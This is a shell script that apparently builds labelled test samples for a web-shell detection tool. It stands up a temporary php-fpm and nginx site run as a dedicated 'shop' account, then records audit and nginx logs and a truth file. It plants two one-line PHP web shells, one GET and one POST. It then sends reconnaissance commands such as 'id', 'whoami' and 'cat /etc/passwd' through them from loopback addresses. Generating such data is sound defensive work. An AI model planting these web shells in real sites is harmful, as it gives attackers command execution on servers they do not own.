#!/bin/sh
# SPDX-License-Identifier: ISC
# Capture samples/dedicated-pool: a site whose php-fpm pool runs as an
# account of its own, its document root outside the usual web roots,
# the servers started before the audit rules, with a real auditd.
#
#   sh tools/capture/dedicated-pool.sh [OUTDIR]  (as root; default samples/dedicated-pool)
#
# This is the common case of a collection: the php-fpm workers were
# forked long before the logs begin, so no exec shows a web server as
# the parent of the web shell's commands; what says they are the web
# site's is the account they run as (shop, not www-data) and the folder
# (/opt/shop/public, not /var/www), which only the site's configuration
# names.  RAW format: the logs carry uids, not names, so the account is
# known through the collected /etc/passwd.
#
# What it sets up, under a temporary directory and torn down after:
# - a system account shop (created, and removed after, unless it was
#   there already);
# - php-fpm 8.2, one static pool of three children as shop, and nginx
#   as www-data on 127.0.0.1:8097 serving /opt/shop/public, combined
#   format, in the Europe/Berlin zone (lib.sh's cap_fpm and
#   cap_nginx_php); both started, and a first request served, before
#   the audit rules are added;
# - auditd with its own configuration: RAW format, node=web11,
#   execve/execveat rules for both arches;
# - a GET web shell (uploads/img.php?x=) and a POST one
#   (uploads/thumb.php, d=, its commands in no log but the audit log)
#   among ordinary traffic from 127.0.0.10 to 127.0.0.15, 127.0.0.55
#   and 127.0.0.56 the attackers.
# It writes the collection as a plain copy of etc/ and var/log/:
# etc/nginx/nginx.conf, etc/php/8.2/fpm/pool.d/www.conf, etc/passwd
# (root, www-data and shop's lines of this machine's), var/log/audit,
# var/log/nginx; and truth.tsv.
#
# Needs: auditd, nginx, php8.2-fpm, curl.  Removes only the audit rules
# it added; refuses to run when auditd is already running.
set -eu

OUT=$(realpath -m "${1:-$(dirname "$0")/../../samples/dedicated-pool}")
NODE=web11
FORMAT=RAW
WEB=/opt/shop/public
PORT=8097
BASE="http://127.0.0.1:$PORT"
ZONE=Europe/Berlin
. "$(dirname "$0")/lib.sh"

cap_start
made_user=
if ! id shop >/dev/null 2>&1; then
	useradd --system --no-create-home --shell /usr/sbin/nologin shop
	made_user=1
fi
trap 'cap_cleanup; [ -z "$made_user" ] || userdel shop; rm -rf /opt/shop' \
    EXIT INT TERM
# The servers and their first request come before the rules.
cap_rules -d
mkdir -p "$WEB/uploads"

# --- the web application -------------------------------------------------
cat > "$WEB/index.php" <<'PHP'
<?php echo "<h1>Shop</h1>\n";
PHP
cat > "$WEB/item.php" <<'PHP'
<?php $id = (int)($_GET['id'] ?? 1); echo "item $id\n";
PHP
cat > "$WEB/uploads/img.php" <<'PHP'
<?php if (isset($_GET['x'])) system($_GET['x']);
PHP
cat > "$WEB/uploads/thumb.php" <<'PHP'
<?php if (isset($_POST['d'])) echo shell_exec($_POST['d']);
PHP
chown -R shop:shop /opt/shop

# --- php-fpm and nginx ----------------------------------------------------
cap_fpm 3 "$ZONE" shop
cap_nginx_php "$ZONE"
for i in 1 2 3; do
	curl -s -o /dev/null "$BASE/index.php" || true
done
cap_rules -a
sleep 1

# --- traffic ----------------------------------------------------------------
get() {		# COMMAND
	truth 127.0.0.55 GET /uploads/img.php "$1"
	curl -s -o /dev/null --interface 127.0.0.55 -A "curl/7.88.1" -G \
	    --data-urlencode "x=$1" "$BASE/uploads/img.php" || true
	sleep 1
}
post() {	# COMMAND
	truth 127.0.0.56 POST /uploads/thumb.php "$1"
	curl -s -o /dev/null --interface 127.0.0.56 -A "curl/7.88.1" \
	    --data-urlencode "d=$1" "$BASE/uploads/thumb.php" || true
	sleep 1
}
cap_traffic 140 10 15 "$BASE/" "$BASE/item.php?id=3" "$BASE/item.php?id=8"
sleep 1
get "id"
post "whoami"
get "pwd"
post "ls -la /opt/shop"
get "ls -la"
post "head -c 64 /etc/hostname"
get "cat /etc/passwd | grep -c sh"
post "date -u +%s"
get "uname -r"
get "ps -o user= -p \$\$"

# --- collect ----------------------------------------------------------------
cap_collect
mkdir -p "$OUT/var/log" "$OUT/etc/nginx" "$OUT/etc/php/8.2/fpm/pool.d"
mv "$OUT/audit" "$OUT/var/log/audit"
mkdir -p "$OUT/var/log/nginx"
cp "$T/nginx/access.log" "$T/nginx/error.log" "$OUT/var/log/nginx/"
sed "s|$T/nginx|/var/log/nginx|g; s|$T|/run|g" "$T/nginx.conf" \
    > "$OUT/etc/nginx/nginx.conf"
# The pool, as Debian keeps it: pool.d/www.conf.
sed -n "/^\[www\]/,\$ { s|$T|/run/php|g; p; }" "$T/fpm.conf" \
    > "$OUT/etc/php/8.2/fpm/pool.d/www.conf"
grep -E '^(root|www-data|shop):' /etc/passwd > "$OUT/etc/passwd"
cap_done
